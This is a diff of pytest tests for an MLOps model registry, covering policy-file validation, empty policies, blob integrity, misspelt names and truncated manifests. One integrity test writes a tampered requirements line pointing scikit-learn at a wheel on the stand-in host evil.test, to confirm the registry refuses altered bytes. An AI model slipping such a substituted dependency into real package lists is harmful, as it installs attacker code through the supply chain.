@@ -11,7 +11,7 @@ import pytest
 import yaml
 from pydantic import ValidationError
 
-from mlops_actions.errors import BadInput, RemoteFailed
+from mlops_actions.errors import BadInput, Place, RemoteFailed
 from mlops_actions.records import Record
 from mlops_actions.registry.card import model_card
 from mlops_actions.registry.manifest import CodeSource, Evidence, File, Lineage, Manifest, Pipeline, identity, newest
@@ -20,6 +20,7 @@ from mlops_actions.registry.promoting import move_now, name_of, registered, to_d
 from mlops_actions.registry.registering import Registration, register, same_as_recorded
 from mlops_actions.registry.registry import Registry, alias_path, manifest_path
 from mlops_actions.registry.signing import GITHUB_ISSUER, signer_of_file
+from mlops_actions.runtime.chain import NAMES
 from mlops_actions.stores.digests import tree_digest
 from mlops_actions.stores.store import Store, blob_path
 from mlops_actions.waiting import Clock
@@ -103,7 +104,7 @@ def test_what_checked_nothing_has_not_passed_unless_the_policy_says_so(tmp_path:
     checks = [evidence("evaluate-model", "unchecked")]
     assert [a.met for a in judge(Policy(), ["evaluate-model"], manifest(), checks)] == [False]
     (tmp_path / "policy.yaml").write_text("accept-unchecked: [evaluate-model]\n")
-    policy = read_policy(tmp_path / "policy.yaml")
+    policy = read_policy(tmp_path / "policy.yaml", NAMES)
     assert [a.met for a in judge(policy, ["evaluate-model"], manifest(), checks)] == [True]
     assert [a.met for a in judge(policy, ["evaluate-model"], manifest(), [evidence("evaluate-model", "rejected")])] == [
         False
@@ -156,9 +157,23 @@ def test_requires_of_the_policy_come_before_those_of_the_input() -> None:
         ("requires: [a", "is not valid YAML"),
         ("require: [a]", r"`require` is unknown"),
         ("metrics: {auc: {minimum: 1}}", r"`metrics.auc.minimum`"),
+        ("metrics: {}", "`metrics` must not be empty"),
+        ("metrics: {auc: {}}", "`metrics.auc` must have `min` or `max`"),
+        ("metrics: {auc: {min: }}", "`metrics.auc.min` has no value: give it one, or take it out"),
+        ("metrics: {auc: }", "`metrics.auc` has no value"),
+        ("metrics:", "`metrics` has no value"),
+        ("requires:", "`requires` has no value"),
+        ("requires: [null]", "`requires.0` has no value"),
+        ("requires: [evaluate_model]", "`requires` names the unknown action 'evaluate_model'"),
+        ("accept-unchecked: [test-modell]", "`accept-unchecked` names the unknown action 'test-modell'"),
+        ("accept-unchecked:", "`accept-unchecked` has no value"),
+        ("signed-by:", "`signed-by` has no value"),
+        ("signed-by: ~", "`signed-by` has no value"),
+        ("signed-by: [{key: }]", "`signed-by.0.key` has no value"),
+        ("signed-by: [null]", "`signed-by.0` has no value"),
         ("metrics: {auc: {min: high}}", r"`metrics.auc.min` must be a number"),
         ("- a", "the file"),
-        ("signed-by: []", "`signed-by`"),
+        ("signed-by: []", "`signed-by` must not be empty"),
         ("signed-by: a.pub", "`signed-by` must be a list"),
         ("signed-by: [{}]", "`signed-by.0` must have `key`, or `issuer` and `subject`"),
         ("signed-by: [{issuer: https://i}]", "`signed-by.0` must have `key`, or `issuer` and `subject`"),
@@ -170,7 +185,7 @@ def test_requires_of_the_policy_come_before_those_of_the_input() -> None:
 def test_policy_that_cannot_be_read(tmp_path: Path, text: str, said: str) -> None:
     (tmp_path / "policy.yaml").write_text(text)
     with pytest.raises(BadInput, match=said) as raised:
-        read_policy(tmp_path / "policy.yaml")
+        read_policy(tmp_path / "policy.yaml", NAMES)
     assert raised.value.place and raised.value.place.file == "policy.yaml"
 
 
@@ -179,7 +194,7 @@ def test_policy_that_cannot_be_read(tmp_path: Path, text: str, said: str) -> Non
     [
         ("metrics:\n  f1: {min: 0}\n  auc:\n    min: high\n", "metrics.auc.min", 4),
         ("accept-unchecked:\n- a\n- [b]\n", "accept-unchecked.1", 3),
-        ("metrics: {}\nrequire: [a]\n", "require", 2),
+        ("metrics: {a: {min: 1}}\nrequire: [a]\n", "require", 2),
         ("metrics:\n\n  auc: {1: 2}\n", "metrics.auc.1", 3),
     ],
 )
@@ -188,19 +203,22 @@ def test_what_is_wrong_in_a_policy_is_said_at_its_line_with_what_it_may_have(
 ) -> None:
     (tmp_path / "policy.yaml").write_text(text)
     with pytest.raises(BadInput) as raised:
-        read_policy(tmp_path / "policy.yaml")
+        read_policy(tmp_path / "policy.yaml", NAMES)
     assert f"`{key}`" in raised.value.what and "It may have `requires`" in raised.value.fix
     assert raised.value.place and raised.value.place.line == line
 
 
-def test_an_empty_policy_requires_what_the_input_does(tmp_path: Path) -> None:
-    (tmp_path / "policy.yaml").write_text("# nothing yet\n")
-    assert read_policy(tmp_path / "policy.yaml") == Policy()
+@pytest.mark.parametrize("text", ["", "# nothing yet\n", "---\n", "null\n", "{}\n", "[]\n"])
+def test_an_empty_policy_is_refused_for_it_would_ask_for_nothing(tmp_path: Path, text: str) -> None:
+    (tmp_path / "policy.yaml").write_text(text)
+    with pytest.raises(BadInput, match=r"The policy policy\.yaml is empty") as raised:
+        read_policy(tmp_path / "policy.yaml", NAMES)
+    assert "take `policy` out" in raised.value.fix and raised.value.place == Place("policy.yaml", 1)
 
 
 def test_policy_that_is_absent(tmp_path: Path) -> None:
     with pytest.raises(BadInput, match=r"policy\.yaml does not exist"):
-        read_policy(tmp_path / "policy.yaml")
+        read_policy(tmp_path / "policy.yaml", NAMES)
 
 
 @pytest.mark.parametrize(
@@ -312,8 +330,19 @@ def test_damaged_blob_is_found_out(registry: Registry, model: Path, tmp_path: Pa
         registry.fetch(found, tmp_path / "got")
     assert not (tmp_path / "got" / "model.joblib").exists()
     registry.store.delete(blob_path(found.files[0].digest))
-    with pytest.raises(RemoteFailed, match="is gone"):
+    with pytest.raises(RemoteFailed, match="is gone") as raised:
         registry.fetch(found, tmp_path / "got")
+    assert "register the same model again, which puts it back" in raised.value.fix
+    assert register(registry, Registration("m", model)).created is False
+    assert registry.fetch(found, tmp_path / "got").read_bytes() == b"model one"
+
+
+def test_a_list_of_packages_that_somebody_changed_is_not_installed(registry: Registry) -> None:
+    kept = registry.put_bytes(b"scikit-learn==1.7.0\n", "packages.txt").digest
+    assert registry.read_blob(kept) == b"scikit-learn==1.7.0\n"
+    registry.store.put(blob_path(kept), b"scikit-learn @ https://evil.test/x.whl\n")
+    with pytest.raises(RemoteFailed, match="does not have the bytes that its name promises: found sha256:"):
+        registry.read_blob(kept)
 
 
 def test_model_that_changed_after_the_pipeline_is_refused(model: Path) -> None:
@@ -335,6 +364,32 @@ def test_what_is_absent_is_named_with_what_there_is(registry: Registry, model: P
         registry.resolve("m", "4")
     with pytest.raises(BadInput, match="no alias 'champion'"):
         registry.resolve("m", "champion")
+
+
+def test_a_model_that_is_misspelt_is_told_with_those_there_are(registry: Registry, model: Path) -> None:
+    register(registry, Registration("flights", model))
+    with pytest.raises(BadInput, match=r"Unknown model 'flihgts'.*Did you mean `flights`\?"):
+        registry.known("flihgts")
+    with pytest.raises(BadInput, match=r"Unknown model 'churn'.*It has flights"):
+        registry.manifest("churn", 1)
+
+
+def test_a_version_may_be_written_with_leading_zeros(registry: Registry, model: Path) -> None:
+    one = register(registry, Registration("m", model)).manifest
+    assert registry.resolve("m", "01") == one
+    for wrong in ("²", "9" * 5000):
+        with pytest.raises(BadInput):
+            registry.resolve("m", wrong)
+
+
+@pytest.mark.parametrize("kept", [0, 40])
+def test_a_manifest_that_is_cut_off_is_told_so(registry: Registry, model: Path, kept: int) -> None:
+    register(registry, Registration("m", model))
+    path = manifest_path("m", 1)
+    registry.store.put(path, registry.store.get(path)[:kept])
+    with pytest.raises(RemoteFailed, match=r"It is not valid JSON: EOF while parsing .* at line") as raised:
+        registry.manifest("m", 1)
+    assert raised.value.fix == "Put it back from a backup of the store"
 
 
 def test_manifest_of_a_newer_tool_is_not_guessed_at(registry: Registry) -> None:
